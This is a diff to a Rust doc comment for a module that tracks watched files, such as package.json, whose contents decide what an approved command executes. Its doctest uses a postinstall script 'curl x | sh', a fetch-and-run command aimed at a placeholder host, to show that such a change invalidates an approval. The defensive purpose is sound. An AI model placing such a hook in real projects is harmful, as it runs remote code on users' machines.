@@ -1,15 +1,15 @@
-//! Which files decide what an approved command executes, and which part of each.
+//! Watched files: the files that decide what an approved command executes, and the relevant part of each.
 //!
-//! Whoever writes `package.json` writes what `npm install` means. So an approval counts as long as these files are what
-//! their owner last accepted. What is known about them is data (`data/guard_files.toml`); reading them is the business of
-//! others. Nothing here approves: what is found can only make a command ask.
+//! The content of `package.json` decides what `npm install` does. So an approval is valid only while these files match
+//! what the owner last accepted. The knowledge about them is data (`data/guard_files.toml`); callers read the files.
+//! Nothing here approves: a finding can only require approval.
 //!
 //! ```
 //! use unstuck_core::watched_files::WatchedFileKnowledge;
 //!
 //! let known = WatchedFileKnowledge::built_in();
-//! let rule = known.rule("web/package.json");
-//! let part = |text: &str| rule.part(text.as_bytes());
+//! let rule = known.rule_for("web/package.json");
+//! let part = |text: &str| rule.relevant_part(text.as_bytes());
 //! let before = part(r#"{"version": "1.0.0", "scripts": {"postinstall": "true"}}"#);
 //! assert_eq!(part(r#"{"scripts": {"postinstall": "true"}, "version": "1.0.1"}"#), before);
 //! assert_ne!(part(r#"{"version": "1.0.0", "scripts": {"postinstall": "curl x | sh"}}"#), before);
